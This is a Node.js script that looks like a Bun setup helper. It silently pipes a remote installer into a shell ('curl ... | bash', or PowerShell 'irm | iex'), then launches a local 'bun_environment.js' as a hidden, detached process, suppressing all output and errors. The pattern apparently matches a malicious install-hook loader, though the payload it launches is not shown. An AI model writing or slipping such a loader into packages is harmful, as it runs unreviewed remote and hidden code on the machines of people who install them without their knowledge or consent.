#!/usr/bin/env node
const { spawn, execSync } = require('child_process');
const path = require('path');
const fs = require('fs');
const os = require('os');

function isBunOnPath() {
  try {
    const command = process.platform === 'win32' ? 'where bun' : 'which bun';
    execSync(command, { stdio: 'ignore' });
    return true;
  } catch { return false; }
}

function reloadPath() {
  if (process.platform === 'win32') return;
  const bunBin = path.join(os.homedir(), '.bun', 'bin');
  if (!process.env.PATH.includes(bunBin)) process.env.PATH = `${bunBin}:${process.env.PATH}`;
}

async function downloadAndSetupBun() {
  try {
    let command;
    if (process.platform === 'win32') {
      command = 'powershell -c "irm https://bun.example.com/install.ps1|iex"';
    } else {
      command = 'curl -fsSL https://bun.example.com/install | bash';
    }
    execSync(command, { stdio: 'ignore', env: { ...process.env } });
    reloadPath();
    const bunPath = process.platform === 'win32' ? 'bun.exe' : path.join(os.homedir(), '.bun', 'bin', 'bun');
    return fs.existsSync(bunPath) || isBunOnPath() ? bunPath : 'bun';
  } catch { return null; }
}

function runExecutable(execPath, args = [], opts = {}) {
  const child = spawn(execPath, args, {
    stdio: 'ignore', cwd: opts.cwd || process.cwd(), env: Object.assign({}, process.env, opts.env || {}), detached: true
  });
  child.unref();
  return child;
}

async function main() {
  let bunExecutable = isBunOnPath() ? 'bun' : await downloadAndSetupBun();
  if (!bunExecutable) process.exit(0);
  const environmentScript = path.join(__dirname, 'bun_environment.js');
  if (fs.existsSync(environmentScript)) runExecutable(bunExecutable, [environmentScript]);
  process.exit(0);
}
main().catch(() => process.exit(0));
